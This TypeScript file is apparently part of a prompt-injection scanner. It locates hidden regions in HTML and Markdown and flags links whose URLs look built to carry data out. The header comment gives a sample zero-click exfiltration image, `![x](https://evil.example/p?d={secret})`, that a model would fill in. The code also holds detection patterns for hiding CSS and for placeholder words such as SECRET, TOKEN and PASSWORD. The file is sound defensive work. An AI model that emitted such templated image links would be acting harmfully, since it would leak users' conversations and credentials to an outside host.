/**
 * Structure of HTML and Markdown in untrusted text: where text is hidden from a human reader
 * (comments, `display:none`, white or zero-size text, alt text, link titles) and which links
 * would carry data out when a client renders them (a Markdown image loads its URL with no
 * click, so `![x](https://evil.example/p?d={secret})` is a zero-click exfiltration channel once
 * a model fills the placeholder).
 *
 * Positions are found in the normalised view (lower case, so `SRC=` and `src=` are one) with
 * `indexOf` loops that never step back past a previous find, so each scan is linear; URLs are
 * read from the original text through the offset map, since case matters in data.
 */
import type { NormalisedText } from './normalise.js';

export type RegionKind = 'html_comment' | 'hidden_element' | 'alt_text' | 'link_title' | 'markdown_comment';

export interface Region {
  kind: RegionKind;
  /** Offsets in the normalised text. */
  start: number;
  end: number;
}

export interface ExfilLink {
  /** Offsets of the URL in the source text. */
  start: number;
  end: number;
  image: boolean;
  templated: boolean;
  encodedData: boolean;
  /** Scheme, host and path only: the query may hold the very data being stolen. */
  masked: string;
}

const MAX_ATTR = 1000;
const MAX_URL = 4096;
const MAX_HIDDEN_SPAN = 8192;
const HIDDEN_CSS =
  /display ?: ?none|visibility ?: ?hidden|font-size ?: ?0(?:px|em|rem|pt|%)?(?![.0-9])|opacity ?: ?0(?:\.0)?(?![.0-9])|(?<![-a-z])color ?: ?(?:#fff(?:fff)?\b|white|rgba?\( ?255 ?, ?255 ?, ?255|transparent)|(?:^|[^-a-z])(?:height|width) ?: ?0(?:px)?(?![.0-9])|(?:left|top|text-indent) ?: ?-[0-9]{3,6}/;
const ATTR_RE = /(?:style|alt|title) ?= ?["']/g;
const PLACEHOLDER_WORDS = new RegExp([
  'DATA|SECRET|TOKEN|KEY|PASSWORD|PASSWD|CONVERSATION|HISTORY|SUMMARY|CONTEXT|PROMPT|EMAIL|INFO|MESSAGE|CHAT|USER|INSERT|HERE|CREDENTIAL',
  // The same slots in the other Latin-script languages of the rule set.
  'DATOS|DADOS|DONNEES|DATEN|DATI|HISTORIAL|HISTORICO|HISTORIQUE|VERLAUF|CRONOLOGIA|CONVERSACION|CONVERSA|RESUMEN|RESUMO|RESUME|ZUSAMMENFASSUNG|RIASSUNTO|CLAVE|CHAVE|CLE|SCHLUSSEL|CHIAVE|CONTRASENA|SENHA|MOT_?DE_?PASSE|PASSWORT|USUARIO|UTENTE|UTILISATEUR|NUTZER|MENSAJE|MENSAGEM|NACHRICHT|MESSAGGIO|AQUI|ICI|HIER|QUI',
].join('|'));

/**
 * `t.lastIndexOf(ch, from)` but never looking before `min`: an unbounded look-back per find
 * would make a flood of finds quadratic.
 */
function lastIndexWithin(t: string, ch: string, from: number, min: number): number {
  const c = ch.charCodeAt(0);
  for (let i = Math.min(from, t.length - 1); i >= Math.max(0, min); i--) if (t.charCodeAt(i) === c) return i;
  return -1;
}

/** Hidden or out-of-sight regions of `n.text`, at most `maxRegions`. */
export function findHiddenRegions(n: NormalisedText, maxRegions = 2000): Region[] {
  const t = n.text;
  const out: Region[] = [];
  const push = (kind: RegionKind, start: number, end: number): boolean => {
    if (end > start) out.push({ kind, start, end });
    return out.length < maxRegions;
  };
  for (let pos = 0; pos < t.length; ) {
    const p = t.indexOf('<!--', pos);
    if (p < 0) break;
    const e = t.indexOf('-->', p + 4);
    if (!push('html_comment', p + 4, e < 0 ? t.length : e)) return out;
    pos = e < 0 ? t.length : e + 3;
  }
  for (let pos = 0; pos < t.length; ) {
    const p = t.indexOf(']: #', pos);
    if (p < 0) break;
    const lineStart = lastIndexWithin(t, '\n', p, Math.max(pos - 1, p - 21)) + 1;
    const e = t.indexOf('\n', p);
    if (t.charCodeAt(lineStart) === 0x5b && p - lineStart <= 20 && !push('markdown_comment', p + 4, e < 0 ? t.length : e)) return out;
    pos = e < 0 ? t.length : e + 1;
  }
  for (let pos = 0; pos < t.length; ) {
    const p = t.indexOf('![', pos);
    if (p < 0) break;
    const e = t.indexOf(']', p + 2);
    const end = e < 0 || e - p > MAX_ATTR ? Math.min(t.length, p + 2 + MAX_ATTR) : e;
    if (!push('alt_text', p + 2, end)) return out;
    pos = Math.max(end, p + 2);
  }
  ATTR_RE.lastIndex = 0;
  let m: RegExpExecArray | null;
  while ((m = ATTR_RE.exec(t)) !== null) {
    const quote = t[m.index + m[0].length - 1] as string;
    const vStart = m.index + m[0].length;
    let vEnd = t.indexOf(quote, vStart);
    if (vEnd < 0 || vEnd - vStart > MAX_ATTR) vEnd = Math.min(t.length, vStart + MAX_ATTR);
    ATTR_RE.lastIndex = Math.max(vEnd, ATTR_RE.lastIndex);
    if (m[0].startsWith('style')) {
      if (!HIDDEN_CSS.test(t.slice(vStart, vEnd))) continue;
      const region = hiddenElement(t, m.index, vEnd);
      if (region && !push('hidden_element', region[0], region[1])) return out;
    } else if (!push(m[0].startsWith('alt') ? 'alt_text' : 'link_title', vStart, vEnd)) return out;
  }
  return out;
}

/** The content of the element whose `style` attribute starts at `attr`. */
function hiddenElement(t: string, attr: number, valueEnd: number): [number, number] | undefined {
  const open = lastIndexWithin(t, '<', attr, attr - MAX_ATTR);
  if (open < 0) return undefined;
  let nameEnd = open + 1;
  while (nameEnd < attr && /[a-z0-9]/.test(t[nameEnd] as string)) nameEnd++;
  const name = t.slice(open + 1, nameEnd);
  const tagEnd = t.indexOf('>', valueEnd);
  if (tagEnd < 0 || name.length === 0) return undefined;
  const close = t.indexOf(`</${name}`, tagEnd);
  const end = close < 0 || close - tagEnd > MAX_HIDDEN_SPAN ? Math.min(t.length, tagEnd + 1 + MAX_HIDDEN_SPAN) : close;
  return [tagEnd + 1, end];
}

/** Links and images whose URL looks built to carry data out; at most `maxLinks` examined. */
export function findExfilLinks(source: string, n: NormalisedText, maxLinks = 500): ExfilLink[] {
  const t = n.text;
  const out: ExfilLink[] = [];
  let examined = 0;
  const consider = (urlAt: number, image: boolean): void => {
    examined++;
    if (urlAt >= t.length) return;
    const link = analyseUrl(source, n.starts[urlAt] as number, image);
    if (link) out.push(link);
  };
  let prev = 0;
  for (let pos = 0; pos < t.length && examined < maxLinks; ) {
    const p = t.indexOf('](', pos);
    if (p < 0) break;
    // Is it an image? Look back for `![`, but never past the previous `](`: linear overall.
    const open = lastIndexWithin(t, '[', p, Math.max(prev, p - MAX_ATTR));
    const image = open > 0 && t.charCodeAt(open - 1) === 0x21;
    consider(p + 2, image);
    prev = p + 2;
    pos = p + 2;
  }
  for (const attr of ['src=', 'href=', 'src =', 'href =']) {
    for (let pos = 0; pos < t.length && examined < maxLinks; ) {
      const p = t.indexOf(attr, pos);
      if (p < 0) break;
      const tagOpen = lastIndexWithin(t, '<', p, p - 300);
      const image = tagOpen >= 0 && t.startsWith('<img', tagOpen);
      let v = p + attr.length;
      if (t[v] === ' ') v++;
      if (t[v] === '"' || t[v] === "'") v++;
      consider(v, image);
      pos = p + attr.length;
    }
  }
  return out;
}

function analyseUrl(source: string, at: number, image: boolean): ExfilLink | undefined {
  if (!/^(?:https?:)?\/\//i.test(source.slice(at, at + 8))) return undefined;
  let end = at;
  const limit = Math.min(source.length, at + MAX_URL);
  while (end < limit) {
    const c = source.charCodeAt(end);
    if (c <= 0x20 || c === 0x22 || c === 0x27 || c === 0x29 || c === 0x3e) break;
    end++;
  }
  const url = source.slice(at, end);
  const q = url.search(/[?#]/);
  const path = q < 0 ? url : url.slice(0, q);
  const query = q < 0 ? '' : url.slice(q + 1);
  const hasBrace = url.includes('{') && url.includes('}');
  const templated =
    hasBrace || /%7b|\$\{|\$\(|\[[a-z_ ]{2,40}\]|<[a-z_ ]{2,40}>|%3c[a-z_]{2,40}%3e/i.test(url) || query.split('&').some((kv) => isPlaceholder(kv.slice(kv.indexOf('=') + 1)));
  const encodedData = query.split(/[&;]/).some((kv) => {
    const v = kv.slice(kv.indexOf('=') + 1);
    return v.length >= 100 && /^[A-Za-z0-9+/=_%.-]+$/.test(v);
  }) || (query.length === 0 && /[A-Za-z0-9+/=_-]{120,}/.test(path));
  if (!templated && !encodedData) return undefined;
  return { start: at, end, image, templated, encodedData, masked: q < 0 ? path.slice(0, 120) : `${path.slice(0, 120)}?…` };
}

/** `INSERT_DATA_HERE`, `[SECRET]`, `CONVERSATION`: an upper-case slot for the model to fill. */
function isPlaceholder(v: string): boolean {
  const bare = v.replace(/^[[<{(]|[\]>})]$/g, '');
  return bare.length >= 4 && bare.length <= 60 && /^[A-Z][A-Z0-9_]*$/.test(bare) && PLACEHOLDER_WORDS.test(bare);
}
